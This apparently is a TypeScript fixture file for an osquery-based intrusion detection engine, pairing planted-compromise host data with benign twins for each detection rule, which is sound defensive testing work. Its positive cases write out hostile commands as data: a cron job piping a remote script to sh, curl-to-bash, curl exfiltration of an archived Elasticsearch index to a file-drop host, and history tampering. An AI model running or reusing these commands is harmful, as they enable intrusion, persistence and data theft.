// One planted positive and one real-world benign twin per detection, in osquery's real columns. A benign twin may
// produce baseline notes (hits with kept_by) but no finding; `kept` lists the baselines it must be kept by.
import type { HostData, QueryEntities } from "../../shared/engine/index.js";
import { host, proc, sock } from "./helpers.js";

export interface DetectionFixture {
  positive: HostData;
  benign: HostData;
  entities?: Partial<QueryEntities>;
  /** Baseline ids (kept_by) the benign twin must produce notes for. */
  kept?: readonly string[];
}

const user = (uid: number, username: string, shell: string, directory = `/home/${username}`) => ({ uid: String(uid), gid: String(uid), username, shell, directory });
const listen = (pid: number, port: number, address = "0.0.0.0", protocol = 6) => ({ pid: String(pid), port: String(port), protocol: String(protocol), family: address.includes(":") ? "10" : "2", address, fd: "3", socket: "0", path: "", net_namespace: "4026531840" });
const key = (uid: number, comment: string, body: string, key_file: string, options = "") => ({ uid: String(uid), algorithm: "ssh-ed25519", key: body, options, comment, key_file });
const aug = (unit: string, command: string, args: string[]) => [
  { node: `/files${unit}/Service/ExecStart/command`, value: command, label: "command", path: unit },
  ...args.map((a, i) => ({ node: `/files${unit}/Service/ExecStart/arguments/${i + 1}`, value: a, label: String(i + 1), path: unit })),
];
const CLOUD_INIT_ROOT_OPTS = `no-port-forwarding,no-agent-forwarding,no-X11-forwarding,command="echo 'Please login as the user \\"ubuntu\\" rather than the user \\"root\\".';echo;sleep 10;exit 142"`;
const ANSIBLE_SSH = `ssh -C -o ControlMaster=auto -o ControlPersist=60s -o KbdInteractiveAuthentication=no -o PreferredAuthentications=gssapi-with-mic,gssapi-keyex,hostbased,publickey -o PasswordAuthentication=no -o ConnectTimeout=10 -o 'ControlPath="/home/deploy/.ansible/cp/4f1a2b3c4d"' 10.0.0.7 '/bin/sh -c '"'"'echo ~deploy && sleep 0'"'"''`;

export const FIXTURES: Record<string, DetectionFixture> = {
  "unexpected-listener": {
    positive: host({ listening_ports: [listen(7, 4444)], processes: [proc(7, "x", "/tmp/.x/x")] }, { allowed_ports: "22" }),
    // Kubernetes worker (kubeadm, Calico, flannel-style VXLAN) that also runs node_exporter and a local PostgreSQL.
    benign: host(
      {
        listening_ports: [
          listen(501, 22), listen(501, 22, "::"), listen(900, 10250, "::"), listen(900, 10248, "127.0.0.1"), listen(910, 10256, "::"),
          listen(920, 9100, "::"), listen(430, 123, "0.0.0.0", 17), listen(431, 68, "0.0.0.0", 17), listen(940, 179), listen(-1, 8472, "0.0.0.0", 17),
          listen(600, 5432), listen(700, 8081),
        ],
        processes: [
          proc(501, "sshd", "/usr/sbin/sshd", "sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups"),
          proc(900, "kubelet", "/usr/bin/kubelet", "/usr/bin/kubelet --config=/var/lib/kubelet/config.yaml"),
          proc(910, "kube-proxy", "/usr/local/bin/kube-proxy", "/usr/local/bin/kube-proxy --config=/var/lib/kube-proxy/config.conf"),
          proc(920, "node_exporter", "/usr/local/bin/node_exporter", "/usr/local/bin/node_exporter --collector.systemd"),
          proc(430, "chronyd", "/usr/sbin/chronyd", "/usr/sbin/chronyd -F 1"),
          proc(431, "dhclient", "/usr/sbin/dhclient", "dhclient -4 -v -i -pf /run/dhclient.ens5.pid ens5"),
          proc(940, "bird", "/usr/bin/bird", "bird -R -s /var/run/calico/bird.ctl -d -c /etc/calico/confd/config/bird.cfg"),
          proc(600, "postgres", "/usr/lib/postgresql/15/bin/postgres", "/usr/lib/postgresql/15/bin/postgres -D /var/lib/postgresql/15/main"),
          proc(700, "java", "/usr/lib/jvm/java-17-openjdk-amd64/bin/java", "java -jar /opt/orders/orders.jar"),
        ],
      },
      { allowed_ports: "8081" },
    ),
    kept: ["port:sshd", "port:kubelet", "port:kube-proxy", "port:node-exporter", "port:ntp", "port:dhcp-client", "port:calico", "port:vxlan-wireguard-kernel", "port:postgres", "tag:allowed_ports"],
  },
  "deleted-binary-running": {
    positive: host({ processes: [proc(7, "x", "/dev/shm/.x (deleted)", "/dev/shm/.x", { on_disk: "0" })] }),
    // Any host: nginx running its packaged binary, and a kernel thread (no path, on_disk -1).
    benign: host({ processes: [proc(7, "nginx", "/usr/sbin/nginx", "nginx: master process /usr/sbin/nginx"), proc(2, "kthreadd", "", "", { on_disk: "-1" })] }),
  },
  "exec-from-tmp": {
    positive: host({ processes: [proc(7, "payload", "/var/tmp/payload")] }),
    // Developer box / CI runner: `go run ./cmd/api` executes from Go's temp build dir; tmpreaper only names /tmp.
    benign: host({
      processes: [proc(7, "tmpreaper", "/usr/sbin/tmpreaper", "/usr/sbin/tmpreaper 7d /tmp"), proc(8, "build", "/home/u/tmp/build"), proc(9, "main", "/tmp/go-build2291850177/b001/exe/main", "/tmp/go-build2291850177/b001/exe/main", { uid: "1000" })],
    }),
    kept: ["tmp-exec:go-run"],
  },
  "reverse-shell": {
    positive: host({ processes: [proc(7, "bash", "/usr/bin/bash", "bash -i")], process_open_sockets: [sock(7, "203.0.113.66", 443)] }),
    // Bastion: sshd holding the client connection; the login shell only talks to a local PostgreSQL.
    benign: host({ processes: [proc(7, "bash", "/usr/bin/bash", "-bash"), proc(8, "sshd", "/usr/sbin/sshd", "sshd: admin")], process_open_sockets: [sock(8, "203.0.113.66", 51000), sock(7, "127.0.0.1", 5432)] }),
  },
  "ld-preload": {
    positive: host({ process_envs: [{ pid: "7", key: "LD_PRELOAD", value: "/dev/shm/libhide.so" }] }),
    // Debian redis container image built with jemalloc preloaded; a build job's LD_LIBRARY_PATH.
    benign: host({
      process_envs: [{ pid: "7", key: "LD_PRELOAD", value: "/usr/lib/x86_64-linux-gnu/libjemalloc.so.2" }, { pid: "7", key: "LD_LIBRARY_PATH", value: "/tmp/lib" }],
      processes: [proc(7, "redis-server", "/usr/bin/redis-server", "redis-server *:6379")],
    }),
    kept: ["preload:jemalloc"],
  },
  "ssh-authorized-key": {
    positive: host({
      authorized_keys: [key(0, "mallory@kali", "AAAAC3NzaC1lZDI1NTE5AAAAIEvil0", "/root/.ssh/authorized_keys"), key(1000, "support", "AAAAC3NzaC1lZDI1NTE5AAAAIEvil1", "/home/alice/.ssh/authorized_keys2")],
      users: [user(0, "root", "/bin/bash", "/root"), user(1000, "alice", "/bin/bash")],
    }),
    // Ubuntu EC2 instance: cloud-init copied the key pair to root behind its forced command; Ansible's key on root;
    // the people's own keys.
    benign: host({
      authorized_keys: [
        key(0, "prod-keypair", "AAAAC3NzaC1lZDI1NTE5AAAAIKeyPair", "/root/.ssh/authorized_keys", CLOUD_INIT_ROOT_OPTS),
        key(0, "ansible@mgmt-01", "AAAAC3NzaC1lZDI1NTE5AAAAIAnsible", "/root/.ssh/authorized_keys"),
        key(1000, "prod-keypair", "AAAAC3NzaC1lZDI1NTE5AAAAIKeyPair", "/home/ubuntu/.ssh/authorized_keys"),
        key(1001, "alice@laptop", "AAAAC3NzaC1lZDI1NTE5AAAAIAlice", "/home/alice/.ssh/authorized_keys"),
      ],
      users: [user(0, "root", "/bin/bash", "/root"), user(1000, "ubuntu", "/bin/bash"), user(1001, "alice", "/bin/bash")],
    }),
    kept: ["cloud-init:disable-root-opts", "automation:config-management-key"],
  },
  "pam-backdoor": {
    // A VPN gateway's sshd with an extra module in the system's PAM directory, named like an SSO cache.
    positive: host({
      processes: [proc(900, "sshd", "/usr/sbin/sshd", "sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups"), proc(4210, "sshd", "/usr/sbin/sshd", "sshd: alice [priv]")],
      process_memory_map: [
        { pid: "4210", path: "/usr/lib/x86_64-linux-gnu/security/pam_unix.so" },
        { pid: "4210", path: "/usr/lib/x86_64-linux-gnu/security/pam_sso_cache.so" },
      ],
    }),
    // Debian sshd and sudo with the stock stack and SSSD's module (an AD-joined host); libc and libpam themselves.
    benign: host({
      processes: [proc(4210, "sshd", "/usr/sbin/sshd", "sshd: alice [priv]"), proc(4300, "sudo", "/usr/bin/sudo", "sudo -i")],
      process_memory_map: [
        { pid: "4210", path: "/usr/lib/x86_64-linux-gnu/security/pam_unix.so" },
        { pid: "4210", path: "/usr/lib/x86_64-linux-gnu/security/pam_systemd.so" },
        { pid: "4210", path: "/usr/lib/x86_64-linux-gnu/security/pam_sss.so" },
        { pid: "4210", path: "/usr/lib/x86_64-linux-gnu/libpam.so.0.85.1" },
        { pid: "4300", path: "/lib64/security/pam_faillock.so" },
        { pid: "4300", path: "/usr/lib/x86_64-linux-gnu/libc.so.6" },
      ],
    }),
    kept: ["pam:packaged"],
  },
  "staged-data-exfiltration": {
    // An Elasticsearch node's data archived under a hidden name in /dev/shm and posted to an anonymous file-drop host.
    positive: host({
      shell_history: [
        { uid: "0", command: "tar czf /dev/shm/.es_snap.tgz /var/lib/elasticsearch/nodes/0/indices", history_file: "/root/.bash_history" },
        { uid: "0", command: "curl -s -F file=@/dev/shm/.es_snap.tgz https://0x0.st", history_file: "/root/.bash_history" },
      ],
      users: [{ uid: "0", username: "root", directory: "/root" }],
    }),
    // Logs archived in /tmp and copied to the internal backup host; a build artefact pushed to the internal Nexus; a
    // support bundle fetched (a download, not an upload).
    benign: host({
      shell_history: [
        { uid: "1000", command: "tar czf /tmp/app-logs.tgz /var/log/app && scp /tmp/app-logs.tgz backup01:/srv/logs/", history_file: "/home/ops/.bash_history" },
        { uid: "1000", command: "curl -u ci:token -T /tmp/build/app-1.4.2.tar.gz https://nexus.corp/repository/raw/app/", history_file: "/home/ops/.bash_history" },
        { uid: "1000", command: "curl -o /tmp/bundle.tgz https://downloads.example.com/support/bundle.tgz", history_file: "/home/ops/.bash_history" },
      ],
      users: [{ uid: "1000", username: "ops", directory: "/home/ops" }],
    }),
  },
  "suspicious-cron": {
    positive: host({ crontab: [{ minute: "*/5", hour: "*", day_of_month: "*", month: "*", day_of_week: "*", command: "root wget -qO- http://198.51.100.3/a.sh | sh", path: "/etc/cron.d/sysupdate" }] }),
    // Debian web server: stock /etc/crontab and certbot's cron.d job; root's restic backup pinging healthchecks.io.
    benign: host({
      crontab: [
        { minute: "17", hour: "*", command: "root cd / && run-parts --report /etc/cron.hourly", path: "/etc/crontab" },
        { minute: "0", hour: "*/12", command: "root test -x /usr/bin/certbot -a \\! -d /run/systemd/system && perl -e 'sleep int(rand(43200))' && certbot -q renew --no-random-sleep-on-renew", path: "/etc/cron.d/certbot" },
        { minute: "30", hour: "2", command: "RESTIC_PASSWORD_FILE=/root/.restic restic -r s3:s3.amazonaws.com/acme-backups backup /srv --exclude /srv/tmp/ --exclude /tmp/cache && curl -fsS -m 10 --retry 5 -o /dev/null https://hc-ping.com/0f5a3c1e-2b7d-4c8a-9e1f-6d2b3a4c5e6f", path: "/var/spool/cron/crontabs/root" },
        // Output kept (a ping without -o /dev/null is a transfer to an outside address): the heartbeat baseline keeps it.
        { minute: "0", hour: "6", command: "/usr/local/bin/report.sh && curl -fsS -m 10 --retry 5 https://hc-ping.com/7c1d2e3f-4a5b-6c7d-8e9f-0a1b2c3d4e5f", path: "/var/spool/cron/crontabs/deploy" },
      ],
    }),
    // restic's line writes nothing to run or hide in /tmp (--exclude /tmp/cache): no signal, so no note to keep it by.
    kept: ["cron:packaged:certbot", "cron:heartbeat-ping"],
  },
  "suspicious-systemd-unit": {
    positive: host({ systemd_units: [{ id: "upd.service", fragment_path: "/etc/systemd/system/upd.service", active_state: "active" }], augeas: aug("/etc/systemd/system/upd.service", "/tmp/.u/upd", ["-d"]) }),
    // Debian host: the packaged ssh.service and an admin-written node_exporter.service in /etc/systemd/system.
    benign: host({
      systemd_units: [
        { id: "ssh.service", fragment_path: "/lib/systemd/system/ssh.service", active_state: "active" },
        { id: "node_exporter.service", fragment_path: "/etc/systemd/system/node_exporter.service", active_state: "active" },
      ],
      augeas: [...aug("/lib/systemd/system/ssh.service", "/usr/sbin/sshd", ["-D", "$SSHD_OPTS"]), ...aug("/etc/systemd/system/node_exporter.service", "/usr/local/bin/node_exporter", ["--collector.textfile.directory=/var/lib/node_exporter"])],
    }),
  },
  "unexpected-suid": {
    positive: host({ suid_bin: [{ path: "/tmp/.bash", username: "root", groupname: "root", permissions: "S" }] }),
    // Debian 12 server (suid_bin walks /bin too: merged-/usr paths appear twice), plus a vendor helper tagged by the fleet.
    benign: host(
      {
        suid_bin: [
          { path: "/bin/su", username: "root", groupname: "root", permissions: "S" },
          { path: "/usr/bin/sudo", username: "root", groupname: "root", permissions: "S" },
          { path: "/bin/mount", username: "root", groupname: "root", permissions: "S" },
          { path: "/usr/lib/dbus-1.0/dbus-daemon-launch-helper", username: "root", groupname: "messagebus", permissions: "S" },
          { path: "/usr/lib/openssh/ssh-keysign", username: "root", groupname: "root", permissions: "S" },
          { path: "/usr/bin/crontab", username: "root", groupname: "crontab", permissions: "G" },
          { path: "/opt/vendor/helper", username: "root", groupname: "root", permissions: "S" },
        ],
      },
      { allowed_suid: "/opt/vendor/helper" },
    ),
    kept: ["suid:util-linux", "suid:sudo", "suid:mount", "suid:dbus", "suid:openssh-client", "suid:cron", "tag:allowed_suid"],
  },
  "unexpected-kernel-module": {
    positive: host({ kernel_modules: [{ name: "diamorphine", size: "16384", used_by: "-", status: "Live", address: "0xffffffffc0a00000" }] }),
    // GPU node with ZFS, the CrowdStrike sensor and a NIC driver the fleet tags as allowed.
    benign: host(
      {
        kernel_modules: ["ext4", "overlay", "nf_tables", "nvidia", "nvidia_uvm", "falcon_lsm_serviceable", "zfs", "spl", "acme_nic"].map((name) => ({ name, size: "16384", used_by: "-", status: "Live", address: "0x0" })),
      },
      { allowed_kmods: "acme_nic" },
    ),
    kept: ["kmod:debian-in-tree", "kmod:nvidia", "kmod:crowdstrike-falcon", "kmod:zfs", "tag:allowed_kmods"],
  },
  "non-root-uid0": {
    positive: host({ users: [user(0, "root", "/bin/bash", "/root"), user(0, "toor", "/bin/sh", "/root")] }),
    // Debian base-passwd accounts (operator-style accounts keep their own uid).
    benign: host({ users: [user(0, "root", "/bin/bash", "/root"), user(1, "daemon", "/usr/sbin/nologin", "/usr/sbin"), user(4, "sync", "/bin/sync", "/bin")] }),
  },
  "new-interactive-account": {
    positive: host({ users: [user(998, "svc-backup", "/bin/bash", "/var/lib/svc")] }),
    // CI host: postgres gets /bin/bash from postgresql-common, gitlab-runner and jenkins from their packages; the
    // cloud image's ubuntu user next to the people listed in known_users.
    benign: host(
      {
        users: [
          user(33, "www-data", "/usr/sbin/nologin", "/var/www"), user(107, "postgres", "/bin/bash", "/var/lib/postgresql"), user(998, "gitlab-runner", "/bin/bash", "/home/gitlab-runner"),
          user(110, "jenkins", "/bin/bash", "/var/lib/jenkins"), user(1000, "ubuntu", "/bin/bash"), user(1001, "alice", "/bin/bash"), user(4, "sync", "/bin/sync", "/bin"),
        ],
      },
      { known_users: "alice" },
    ),
    kept: ["accounts:postgres", "accounts:ci", "tag:known_users", "accounts:cloud-default-user"],
  },
  "remote-root-login": {
    positive: host({ last: [{ username: "root", tty: "pts/0", pid: "4242", type: "7", type_name: "user-process", time: "1731990000", host: "203.0.113.5" }] }),
    // Console login on tty1, a named admin from the internet, and root from the fleet's bastion (tagged).
    benign: host(
      {
        last: [
          { username: "root", tty: "tty1", pid: "900", type: "7", type_name: "user-process", time: "1731990000", host: "" },
          { username: "admin", tty: "pts/0", pid: "901", type: "7", type_name: "user-process", time: "1731990000", host: "203.0.113.5" },
          { username: "root", tty: "pts/1", pid: "902", type: "7", type_name: "user-process", time: "1731990000", host: "10.0.0.5" },
        ],
      },
      { allowed_root_from: "10.0.0.5" },
    ),
    kept: ["tag:allowed_root_from"],
  },
  cryptominer: {
    positive: host({ processes: [proc(7, "xmrig", "/opt/x/xmrig", "xmrig -o stratum+tcp://pool.example:3333")] }),
    // Java service talking to an internal service on 3333.
    benign: host({ processes: [proc(7, "java", "/usr/bin/java", "java -jar app.jar")], process_open_sockets: [sock(7, "10.0.0.5", 3333)] }),
  },
  "history-tampering": {
    positive: host({ shell_history: [{ uid: "0", time: "0", command: "unset HISTFILE", history_file: "/root/.bash_history" }] }),
    // Admin searching history and echoing the variable.
    benign: host({ shell_history: [{ uid: "0", time: "0", command: "history | grep ssh", history_file: "/root/.bash_history" }, { uid: "0", time: "0", command: "echo $HISTFILE", history_file: "/root/.bash_history" }] }),
  },
  "download-execute": {
    positive: host({ shell_history: [{ uid: "1000", time: "0", command: "curl -s http://198.51.100.3/x.sh | bash", history_file: "/home/a/.bash_history" }] }),
    // Admin installing Go and Docker the documented way.
    benign: host({
      shell_history: [
        { uid: "1000", time: "0", command: "curl -fsSL -o go.tar.gz https://go.dev/dl/go1.22.linux-amd64.tar.gz", history_file: "/home/a/.bash_history" },
        { uid: "1000", time: "0", command: "curl -fsSL https://get.docker.com | sh", history_file: "/home/a/.bash_history" },
      ],
    }),
    kept: ["installer:docker"],
  },
  "known-bad-hash": {
    positive: host({ hash: [{ path: "/srv/eicar.com", sha256: "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f" }] }),
    benign: host({ hash: [{ path: "/usr/bin/bash", sha256: "0d2a3c1f6b0e1c2d3e4f5a6b7c8d9e0f1a2b3c4d5e6f7a8b9c0d1e2f3a4b5c6d" }] }),
  },
  "malicious-package-release": {
    positive: host({ python_packages: [{ name: "Ultralytics", version: "8.3.41", path: "/usr/local/lib/python3.11/site-packages/ultralytics-8.3.41.dist-info", directory: "/usr/local/lib/python3.11/site-packages" }] }),
    // The releases before and after the poisoned ones, and another project whose name only starts alike.
    benign: host({
      python_packages: [
        { name: "ultralytics", version: "8.3.40", path: "/usr/local/lib/python3.11/site-packages/ultralytics-8.3.40.dist-info" },
        { name: "ultralytics-thop", version: "8.3.41", path: "/usr/local/lib/python3.11/site-packages/ultralytics_thop-8.3.41.dist-info" },
        { name: "ultralytics", version: "8.3.47", path: "/opt/venv/lib/python3.10/site-packages/ultralytics-8.3.47.dist-info" },
      ],
    }),
  },
  "offensive-tool-present": {
    positive: host({
      hash: [{ path: "/usr/local/bin/chisel", sha256: "9f2c0e7d1b4a3c5e6f708192a3b4c5d6e7f8091a2b3c4d5e6f708192a3b4c5d6" }],
      processes: [proc(4242, "bash", "/usr/bin/bash", "bash /dev/shm/linpeas.sh -a", { uid: "33" })],
    }),
    // An engineer's bastion: Teleport's tsh, nmap, socat, tcpdump, and a Python package named chisel (a directory).
    benign: host({
      hash: [
        { path: "/usr/local/bin/tsh", sha256: "1111111111111111111111111111111111111111111111111111111111111111" },
        { path: "/usr/bin/nmap", sha256: "2222222222222222222222222222222222222222222222222222222222222222" },
        { path: "/usr/lib/python3/dist-packages/chisel/__init__.py", sha256: "3333333333333333333333333333333333333333333333333333333333333333" },
      ],
      processes: [
        proc(700, "socat", "/usr/bin/socat", "socat TCP-LISTEN:8080,fork TCP:127.0.0.1:80"),
        proc(701, "tcpdump", "/usr/bin/tcpdump", "tcpdump -i eth0 port 53"),
        proc(702, "tsh", "/usr/local/bin/tsh", "tsh ssh ops@db-01"),
      ],
    }),
  },
  "privileged-container": {
    positive: host({ docker_containers: [{ id: "abc", name: "/dbg", image: "alpine:latest", privileged: "1" }] }),
    // Docker host with cAdvisor (documented --privileged) and a GitLab CI docker:dind service next to a web app.
    benign: host({
      docker_containers: [
        { id: "def", name: "/web", image: "nginx:1.27", privileged: "0" },
        { id: "c1", name: "/cadvisor", image: "gcr.io/cadvisor/cadvisor:v0.49.1", privileged: "1" },
        { id: "d1", name: "/runner-abc-project-1-concurrent-0-docker-0", image: "docker:24.0-dind", privileged: "1" },
      ],
    }),
    kept: ["container:cadvisor", "container:docker-dind"],
  },
  "sudoers-nopasswd-all": {
    positive: host({ sudoers: [{ source: "/etc/sudoers.d/x", header: "deploy", rule_details: "ALL=(ALL) NOPASSWD: ALL" }] }),
    // Ubuntu cloud image: sudo group, cloud-init's rule for ubuntu, a narrow backup rule.
    benign: host({
      sudoers: [
        { source: "/etc/sudoers", header: "%sudo", rule_details: "ALL=(ALL:ALL) ALL" },
        { source: "/etc/sudoers.d/90-cloud-init-users", header: "ubuntu", rule_details: "ALL=(ALL) NOPASSWD:ALL" },
        { source: "/etc/sudoers.d/backup", header: "backup", rule_details: "ALL=(root) NOPASSWD: /usr/bin/rsync" },
      ],
    }),
    kept: ["cloud-init:sudoers"],
  },
  "hosts-redirection": {
    positive: host({ etc_hosts: [{ address: "203.0.113.9", hostnames: "github.com" }] }),
    benign: host({ etc_hosts: [{ address: "127.0.0.1", hostnames: "localhost" }, { address: "127.0.1.1", hostnames: "host-1.acme.internal host-1" }, { address: "10.0.0.7", hostnames: "db.internal" }] }),
  },
  "process-masquerading": {
    // A miner that rewrote its argv to "[kworker/0:1]"; comm stays the binary's own name.
    positive: host({ processes: [proc(7, "kw", "/tmp/kw", "[kworker/0:1]")] }),
    // A real kernel worker (no path, no cmdline), sshd, a python app.
    benign: host({ processes: [proc(45, "kworker/0:1-events", "", ""), proc(710, "sshd", "/usr/sbin/sshd", "sshd: /usr/sbin/sshd -D"), proc(9, "python3", "/usr/bin/python3.11", "python3 app.py")] }),
  },
  "ci-runner-egress": {
    positive: host({ process_open_sockets: [sock(7, "203.0.113.5", 6667)], processes: [proc(7, "node", "/usr/bin/node")] }, { role: "ci-runner" }),
    // GitLab runner pulling from GitHub (443) and pushing to a registry on 5000 the fleet tags as allowed.
    benign: host({ process_open_sockets: [sock(8, "140.82.112.3", 443), sock(9, "198.51.100.20", 5000)], processes: [proc(9, "docker", "/usr/bin/docker", "docker push registry.acme.example:5000/app:1")] }, { role: "ci-runner", allowed_egress_ports: "5000" }),
    kept: ["tag:allowed_egress_ports"],
  },
  "vulnerable-package": {
    positive: host({ deb_packages: [{ name: "xz-utils", version: "5.6.0-0.2" }] }),
    benign: host({ deb_packages: [{ name: "xz-utils", version: "5.6.1+really5.4.5-1" }, { name: "openssh-server", version: "1:9.2p1-2+deb12u3" }] }),
  },
  "lateral-admin-connection": {
    positive: host({ processes: [proc(7, "ssh", "/usr/bin/ssh", "ssh root@10.0.0.5")], process_open_sockets: [sock(7, "10.0.0.5", 22)] }, { role: "app" }),
    // App host: an inbound session, and an Ansible run from this host (ControlPersist ssh) to a peer.
    benign: host({ processes: [proc(8, "sshd", "/usr/sbin/sshd"), proc(9, "ssh", "/usr/bin/ssh", ANSIBLE_SSH)], process_open_sockets: [sock(8, "10.0.0.5", 22), sock(9, "10.0.0.7", 22)] }, { role: "app" }),
    kept: ["automation:ansible-ssh"],
  },
  "ioc-match": {
    positive: host({ process_open_sockets: [sock(7, "198.51.100.77", 443)] }),
    benign: host({ process_open_sockets: [sock(7, "198.51.100.78", 443)] }),
    entities: { ips: ["198.51.100.77"] },
  },
};
